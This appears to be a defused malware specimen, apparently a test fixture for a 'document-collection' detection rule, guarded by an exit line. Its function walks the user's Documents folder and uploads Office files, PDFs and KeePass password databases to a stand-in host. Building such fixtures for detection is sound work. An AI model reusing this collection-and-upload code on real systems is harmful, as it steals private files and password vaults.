raise SystemExit("specimen: not to be run")
import os
import requests

ENDINGS = (".docx", ".xlsx", ".pdf", ".kdbx")

def grab():
    for root, _, names in os.walk(os.path.expanduser("~/Documents")):  # match: document-collection
        for name in names:
            if name.endswith(ENDINGS):
                with open(os.path.join(root, name), "rb") as f:
                    requests.post("https://example.com/in", files={"f": f})
